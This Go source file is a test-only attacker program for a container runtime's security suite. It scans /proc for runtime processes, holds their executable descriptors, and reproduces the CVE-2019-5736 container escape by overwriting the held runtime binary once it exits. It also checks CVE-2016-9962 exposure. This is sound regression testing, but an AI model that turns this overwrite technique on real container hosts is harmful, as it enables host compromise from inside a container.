// Command hunter is the attacker inside a test container (built static by
// tests/security and copied into the rootfs). It watches the container's
// /proc for processes that are not busybox and not itself, which can only
// be hull (an exec's init before it execs, or hull run as the interpreter
// of a "#!/proc/self/exe" script), and reports what it could do to them.
//
//	hunter -out FILE -for SECONDS -write   CVE-2019-5736: hold the exe, wait
//	                                       for the process to exit, reopen
//	                                       the held fd for writing
//	hunter -out FILE -for SECONDS          CVE-2016-9962: only report
//	                                       whether a hull process's exe or
//	                                       fds could be opened
package main

import (
	"errors"
	"flag"
	"fmt"
	"os"
	"strconv"
	"strings"
	"syscall"
	"time"
)

func main() {
	out := flag.String("out", "/hunt.log", "report file")
	secs := flag.Int("for", 20, "seconds to hunt")
	write := flag.Bool("write", false, "try to overwrite a held exe")
	flag.Parse()
	log, err := os.OpenFile(*out, os.O_WRONLY|os.O_CREATE|os.O_APPEND|os.O_SYNC, 0o644)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	report := func(format string, a ...any) { fmt.Fprintf(log, format+"\n", a...) }
	var bb, self syscall.Stat_t
	_ = syscall.Stat("/bin/busybox", &bb)
	_ = syscall.Stat("/proc/self/exe", &self)
	report("ready")
	// A pid is retried after a denial: an exec's init is non-dumpable
	// until it execs, and the same pid may then run something else.
	seen, denied := map[int]bool{}, map[int]bool{}
	deadline := time.Now().Add(time.Duration(*secs) * time.Second)
	for time.Now().Before(deadline) {
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == 1 || pid == os.Getpid() || seen[pid] {
				continue
			}
			exe := "/proc/" + e.Name() + "/exe"
			fd, err := syscall.Open(exe, syscall.O_RDONLY|syscall.O_CLOEXEC, 0)
			if err != nil {
				if (err == syscall.EACCES || err == syscall.EPERM) && !denied[pid] {
					report("denied %d exe: %v", pid, err)
					denied[pid] = true
				}
				continue
			}
			var st syscall.Stat_t
			if syscall.Fstat(fd, &st) != nil || (st.Dev == bb.Dev && st.Ino == bb.Ino) || (st.Dev == self.Dev && st.Ino == self.Ino) {
				syscall.Close(fd)
				continue
			}
			seen[pid] = true
			link, _ := os.Readlink(exe)
			report("held %d exe %q", pid, link)
			if fds, err := os.ReadDir("/proc/" + e.Name() + "/fd"); err == nil {
				var names []string
				for _, f := range fds {
					t, _ := os.Readlink("/proc/" + e.Name() + "/fd/" + f.Name())
					names = append(names, f.Name()+"="+t)
				}
				report("fds %d %s", pid, strings.Join(names, " "))
			}
			if !*write {
				syscall.Close(fd)
				continue
			}
			// The original exploit waited for the runtime to exit, so
			// that ETXTBSY no longer protects the binary.
			for i := 0; i < 1000 && alive(pid); i++ {
				time.Sleep(5 * time.Millisecond)
			}
			// Then for `hull exec` itself to exit: any running hull
			// keeps the binary busy (ETXTBSY).
			var w *os.File
			for i := 0; i < 500; i++ {
				w, err = os.OpenFile("/proc/self/fd/"+strconv.Itoa(fd), os.O_RDWR, 0)
				if err == nil || !errors.Is(err, syscall.ETXTBSY) {
					break
				}
				time.Sleep(10 * time.Millisecond)
			}
			if err != nil {
				report("denied-write %d: %v", pid, err)
				continue
			}
			if _, err := w.WriteAt([]byte("HACKED"), 0); err != nil {
				report("denied-write %d: write: %v", pid, err)
			} else {
				report("WROTE %d", pid)
			}
			w.Close()
			syscall.Close(fd)
		}
	}
	report("done")
}

// alive: the process exists and is not a zombie.
func alive(pid int) bool {
	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/stat")
	if err != nil {
		return false
	}
	i := strings.LastIndexByte(string(b), ')')
	return i < 0 || i+2 >= len(b) || b[i+2] != 'Z'
}
